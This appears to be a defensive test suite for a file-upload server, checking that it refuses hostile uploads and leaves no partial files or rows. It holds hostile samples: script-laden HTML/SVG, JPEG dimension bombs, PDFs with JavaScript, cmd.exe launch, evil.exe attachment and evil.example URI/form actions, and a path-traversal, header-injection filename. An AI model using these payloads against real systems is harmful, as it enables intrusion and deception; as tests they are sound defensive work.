import { readdirSync } from 'node:fs';
import { createConnection } from 'node:net';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import sharp from 'sharp';
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { isDiskFull } from '#platform/server/errors.ts';
import { writeDown } from '#platform/server/files/tempUpload.ts';
import { quota } from '../policy.ts';
import { documents, pictures } from './tables.ts';
import { type Caller, form, type MediaPortal, openMediaPortal, pdf, photo } from './testPortal.ts';

let portal: MediaPortal;
let owner: Caller;
let port = 0;

beforeAll(async () => {
  portal = await openMediaPortal();
  owner = await portal.caller();
  await portal.app.listen({ port: 0, host: '127.0.0.1' });
  port = (portal.app.server.address() as { port: number }).port;
});
afterAll(() => portal.close());

const left = (folder: string): string[] => {
  try {
    return readdirSync(join(portal.folder, folder), { recursive: true, withFileTypes: true })
      .filter((one) => one.isFile())
      .map(({ name }) => name);
  } catch (error) {
    if ((error as NodeJS.ErrnoException).code === 'ENOENT') return [];
    throw error;
  }
};
/** Whatever was refused has left nothing: no file, no half of one, no row. */
const kept = async (): Promise<number[]> => [
  left('incoming').length,
  left('files').length,
  await portal.db.$count(documents),
  await portal.db.$count(pictures),
];
const refused = async (what: 'document' | 'picture', bytes: Buffer, name?: string): Promise<[number, string]> => {
  const before = await kept();
  const answer = await portal.upload(owner, what, bytes, name);
  expect(await kept()).toEqual(before);
  return [answer.statusCode, answer.json().errors?.file];
};

/** The same picture that says it is larger: a bomb, as far as its header goes. */
function claiming(jpeg: Buffer, width: number, height: number): Buffer {
  const bytes = Buffer.from(jpeg);
  for (let at = 2; at < bytes.length; at += 2 + bytes.readUInt16BE(at + 2)) {
    const marker = bytes.readUInt16BE(at);
    if (marker === 0xffc0 || marker === 0xffc2) {
      bytes.writeUInt16BE(height, at + 5);
      bytes.writeUInt16BE(width, at + 7);
      return bytes;
    }
  }
  throw new Error('No frame header');
}

describe('a photograph that is none, or a trap [P36 P37 P38]', () => {
  it('HTML by the name of a JPEG, and HTML behind a JPEG’s first bytes', async () => {
    const html = Buffer.from('<!doctype html><script>alert(1)</script>');
    expect(await refused('picture', html)).toEqual([422, expect.stringContaining('не фотография')]);
    // [M10] Whoever has chosen a file of the right name is told what is wrong with it.
    expect(await refused('document', html, 'Скан.jpg')).toEqual([422, expect.stringContaining('внутри другое')]);
    expect(await refused('document', html, 'Скан.html')).toEqual([422, expect.stringContaining('.pdf, .jpg')]);
    expect(await refused('picture', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), html]))).toEqual([
      422,
      expect.stringContaining('не фотография'),
    ]);
  });

  it('SVG with a script, by its own name and by that of a JPEG or a PDF', async () => {
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
    expect(await refused('picture', svg, 'Логотип.svg')).toEqual([422, expect.stringContaining('не фотография')]);
    for (const name of ['Логотип.svg', 'Логотип.jpg', 'Устав.pdf'])
      expect([name, ...(await refused('document', svg, name))]).toEqual([
        name,
        422,
        expect.stringContaining('.pdf, .jpg'),
      ]);
  });

  it('a PNG, a half of a JPEG, nothing at all', async () => {
    const png = await sharp({ create: { width: 100, height: 100, channels: 3, background: '#fff' } })
      .png()
      .toBuffer();
    expect((await refused('picture', png))[0]).toBe(422);
    const whole = await photo();
    expect(await refused('picture', whole.subarray(0, whole.length / 2))).toEqual([
      422,
      expect.stringContaining('повреждён'),
    ]);
    expect(await refused('picture', Buffer.alloc(0))).toEqual([400, 'Файл пустой. Выберите другой.']);
  });

  it('30,000 pixels a side, or 256 megapixels in a small file: by the header, without decoding', async () => {
    const small = await photo(64, 64);
    expect(await refused('picture', claiming(small, 30_000, 30_000))).toEqual([
      422,
      expect.stringContaining('64 мегапикселей'),
    ]);
    expect(await refused('document', claiming(small, 16_000, 16_000), 'Скан.jpg')).toEqual([
      422,
      expect.stringContaining('64 мегапикселей'),
    ]);
    expect((await refused('picture', await photo(20, 20)))[0]).toBe(422);
  });

  it('20 MB and a byte; and 20 MB is still taken', async () => {
    const limit = 20 * 1024 * 1024;
    const jpeg = await photo();
    const padded = (size: number): Buffer => Buffer.concat([jpeg, Buffer.alloc(size - jpeg.length)]);
    expect(await refused('picture', padded(limit + 1))).toEqual([413, expect.stringContaining('больше 20 МБ')]);
    expect((await portal.upload(owner, 'picture', padded(limit))).statusCode).toBe(200);
  });
});

describe('what a photograph carries besides itself [P36 P39]', () => {
  it('is gone: place, camera, what follows the picture; it stands upright as it was meant', async () => {
    const camera = await sharp(await photo(400, 200))
      .withExif({ IFD0: { Make: 'SecretCamera' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '59/1 13/1 0/1' } })
      .withMetadata({ orientation: 6 })
      .jpeg()
      .toBuffer();
    const sent = Buffer.concat([camera, Buffer.from('<script>alert("behind")</script>')]);
    for (const what of ['picture', 'document'] as const) {
      const { result } = (await portal.upload(owner, what, sent, 'Снимок.jpg')).json();
      const stored =
        what === 'picture'
          ? (await portal.app.inject(`${result.link}/200`)).rawPayload
          : (await portal.call(owner, 'GET', `/api/document/document?id=${result.id}`)).rawPayload;
      const { width, height, exif, orientation } = await sharp(stored).metadata();
      expect([what, width, height, exif, orientation]).toEqual([what, 200, 400, undefined, undefined]);
      expect(stored.includes('behind')).toBe(false);
      expect(stored.includes('SecretCamera')).toBe(false);
    }
  });
});

describe('a PDF that does more than be read [P40]', () => {
  const made = async (
    dress: (document: PDFDocument) => void | Promise<void>,
    useObjectStreams: boolean,
  ): Promise<Buffer> => {
    const document = await PDFDocument.create();
    document.addPage([200, 200]);
    await dress(document);
    return Buffer.from(await document.save({ useObjectStreams }));
  };
  const openAction = (action: Record<string, unknown>) => (document: PDFDocument) =>
    document.catalog.set(PDFName.of('OpenAction'), document.context.obj(action as never));
  const dresses: [string, (document: PDFDocument) => void | Promise<void>][] = [
    ['a script', (document) => document.addJavaScript('x', 'app.alert(1)')],
    ['a script by the short name', openAction({ S: 'X', JS: PDFString.of('app.alert(1)') })],
    ['a program', openAction({ S: 'Launch', F: PDFString.of('cmd.exe') })],
    ['a file inside', (document) => document.attach(Buffer.from('MZ'), 'evil.exe')],
    ['another document it opens [pages M]', openAction({ S: 'GoToR', F: PDFString.of('\\\\evil.example\\x.pdf') })],
    ['an address it opens [pages M]', openAction({ S: 'URI', URI: PDFString.of('https://evil.example') })],
    [
      'an address it opens after a harmless step',
      openAction({ S: 'GoTo', D: [], Next: { S: 'URI', URI: PDFString.of('https://evil.example') } }),
    ],
    [
      'an address a page opens',
      (document) =>
        document
          .getPage(0)
          .node.set(
            PDFName.of('AA'),
            document.context.obj({ O: { S: 'URI', URI: PDFString.of('https://evil.example') } } as never),
          ),
    ],
    ['a form that sends itself', openAction({ S: 'SubmitForm', F: PDFString.of('https://evil.example') })],
  ];
  for (const [what, dress] of dresses) {
    it(`is refused: ${what}, in plain sight and in an object stream`, async () => {
      for (const packed of [false, true])
        expect([packed, ...(await refused('document', await made(dress, packed)))]).toEqual([
          packed,
          422,
          expect.stringContaining('сценарии'),
        ]);
    });
  }

  it('is refused with its names disguised', async () => {
    const plain = (await made(openAction({ S: 'Launch', F: PDFString.of('cmd.exe') }), false)).toString('latin1');
    expect((await refused('document', Buffer.from(plain.replace('/Launch', '/L#61unch'), 'latin1')))[0]).toBe(422);
  });

  it('a good one is taken, packed or not; a picture by the name of PDF, a half and a locked one are not', async () => {
    for (const packed of [false, true])
      expect((await portal.upload(owner, 'document', await made(() => undefined, packed))).statusCode).toBe(200);
    const good = await pdf();
    expect((await refused('document', good.subarray(0, good.length / 2)))[0]).toBe(422);
    expect(
      (
        await refused(
          'document',
          Buffer.from(good.toString('latin1').replace('trailer\n<<', 'trailer\n<< /Encrypt 1 0 R'), 'latin1'),
        )
      )[1],
    ).toContain('паролем');
    const { result } = (await portal.upload(owner, 'document', await photo(), 'Скан.pdf')).json();
    expect([result.media_type, result.name]).toEqual(['image/jpeg', 'Скан.pdf.jpg']);
  });
});

describe('a hostile name [P41]', () => {
  it('never becomes a path or a second header', async () => {
    const name = '../../etc/passwd\r\nSet-Cookie: a=b"; filename=evil.html;\u202Efdp.exe';
    const answer = await portal.upload(owner, 'document', await pdf(), name);
    const { id } = answer.json().result;
    const { headers } = await portal.call(owner, 'GET', `/api/document/document?id=${id}`);
    expect(headers['set-cookie']).toBeUndefined();
    expect(headers['content-disposition']).toMatch(
      /^attachment; filename="[^"\\/]*"; filename\*=UTF-8''[\w.!#$&+^`|~%-]+$/,
    );
    // Nothing that turns the direction of writing: «efdp.exe» must not be read as a PDF.
    expect(headers['content-disposition']).not.toContain('%E2%80%AE');
    for (const file of left('files')) expect(file).toMatch(/^[0-9a-f]{32}\.(pdf|jpg|avif|webp)$/);
  });
});

describe('the name of a file', () => {
  it('keeps its quotation marks, which browsers write as %22 [Round3-A13]', async () => {
    const { result } = (await portal.upload(owner, 'document', await pdf(), 'Акт «Вязка» %22Берег%22.pdf')).json();
    expect(result.name).toBe('Акт «Вязка» "Берег".pdf');
    const { headers } = await portal.call(owner, 'GET', `/api/document/document?id=${result.id}`);
    expect(headers['content-disposition']).toMatch(/^attachment; filename="[^"\\/]*"; filename\*=UTF-8''[\w.%-]+$/);
  });
});

/** What the process keeps in buffers once the garbage is out: it serves and sends here alike. */
setFlagsFromString('--expose-gc');
const collectGarbage = runInNewContext('gc') as () => void;
const heldBytes = (): number => {
  collectGarbage();
  return process.memoryUsage().arrayBuffers;
};

describe('a connection that breaks, lies or never ends [P37]', () => {
  const head = (rest: string): string =>
    `POST /api/media/picture HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nAuthorization: Bearer ${owner.token}\r\nContent-Type: ${form(Buffer.alloc(0), 'x').type}\r\n${rest}\r\n\r\n`;
  const part = '------portal-test-boundary\r\nContent-Disposition: form-data; name="file"; filename="x.jpg"\r\n\r\n';

  interface Talk {
    heard: () => string;
    closed: Promise<void>;
    write: (piece: string | Buffer) => Promise<void>;
    hangUp: () => void;
  }

  function talk(): Talk {
    let heard = '';
    const socket = createConnection({ port, host: '127.0.0.1' });
    socket.on('data', (piece) => {
      heard += piece.toString('latin1');
    });
    // The server may cut a connection we are still writing to.
    socket.on('error', () => socket.destroy());
    return {
      heard: () => heard,
      closed: new Promise((resolve) => socket.on('close', () => resolve())),
      write: (piece) => new Promise((done) => (socket.writable ? socket.write(piece, () => done()) : done())),
      hangUp: () => socket.destroy(),
    };
  }

  afterEach(async () => {
    await vi.waitFor(() => expect(left('incoming')).toEqual([]), 60_000);
  });

  it('leaves nothing when it breaks off in the middle', async () => {
    const before = await kept();
    const { write, hangUp, closed } = talk();
    await write(head('Content-Length: 100000'));
    await write(part + 'x'.repeat(5000));
    await vi.waitFor(() => expect(left('incoming')).toHaveLength(1), 60_000);
    hangUp();
    await closed;
    await vi.waitFor(async () => expect(await kept()).toEqual(before), 60_000);
  });

  it('is cut where it said it would end, and what it sends after that is no request', async () => {
    const before = await kept();
    const { write, heard, hangUp, closed } = talk();
    await write(head('Content-Length: 300'));
    await write(part + 'x'.repeat(5000));
    await vi.waitFor(() => expect(heard()).toMatch(/^HTTP\/1\.1 400/), 60_000);
    expect(heard()).not.toMatch(/HTTP\/1\.1 2/);
    hangUp();
    await closed;
    expect(await kept()).toEqual(before);
  });

  it('is told 413 as soon as it has sent too much, and not when it ends; little of it is ever held in memory', async () => {
    const before = await kept();
    const piece = Buffer.concat([Buffer.from('10000\r\n'), Buffer.alloc(0x10000, 'x'), Buffer.from('\r\n')]);
    const { write, heard, hangUp, closed } = talk();
    await write(head('Transfer-Encoding: chunked'));
    await write(`${part.length.toString(16)}\r\n${part}\r\n`);
    const [atFirst, held] = [heldBytes(), [] as number[]];
    let sent = 0;
    for (; !heard() && sent < 64 * 1024 * 1024; sent += 0x10000) {
      await write(piece);
      if (sent % 0x400000 === 0) held.push(heldBytes() - atFirst);
    }
    expect(heard()).toMatch(/^HTTP\/1\.1 413/);
    // Written down as it comes: a server that kept what has come would hold twenty megabytes by now.
    expect(Math.max(...held)).toBeLessThan(6 * 1024 * 1024);
    expect(sent).toBeGreaterThan(20 * 1024 * 1024);
    hangUp();
    await closed;
    expect(await kept()).toEqual(before);
  });
});

describe('room', () => {
  it('is counted per profile: who has none is told before sending [P42]', async () => {
    const full = await portal.caller();
    const row = {
      profileId: full.profile.id,
      fileKey: `${'0'.repeat(32)}.pdf`,
      name: 'x',
      mediaType: 'application/pdf',
      purpose: 'x',
      ownerId: 1,
    };
    const size = 2_000_000_000;
    await portal.db.insert(documents).values(
      Array.from({ length: Math.ceil(quota.bytes / size) }, (_, at) => ({
        ...row,
        size,
        fileKey: `${at}${row.fileKey}`,
      })),
    );
    const answer = await portal.upload(full, 'document', await pdf());
    expect([answer.statusCode, answer.json().errors.file]).toEqual([413, expect.stringContaining('закончилось')]);
  });

  it('of the disk itself ends with 507 that says so, and nothing half-saved; reading goes on [P56]', async () => {
    const { result } = (await portal.upload(owner, 'document', await pdf())).json();
    const { store } = portal.files;
    const { putFile } = store;
    let puts = 0;
    // The third variant of a picture finds no room.
    store.putFile = (...given) => {
      puts += 1;
      return puts < 3 ? putFile(...given) : Promise.reject(Object.assign(new Error('write'), { code: 'ENOSPC' }));
    };
    try {
      const before = await kept();
      const answer = await portal.upload(owner, 'picture', await photo());
      expect([answer.statusCode, answer.json().errors.error]).toEqual([
        507,
        expect.stringContaining('закончилось место'),
      ]);
      expect(await kept()).toEqual(before);
      expect((await portal.call(owner, 'GET', `/api/document/document?id=${result.id}`)).statusCode).toBe(200);
    } finally {
      store.putFile = putFile;
    }
    await expect(writeDown(Readable.from([Buffer.alloc(10)]), '/dev/full')).rejects.toSatisfy(isDiskFull);
  });
});
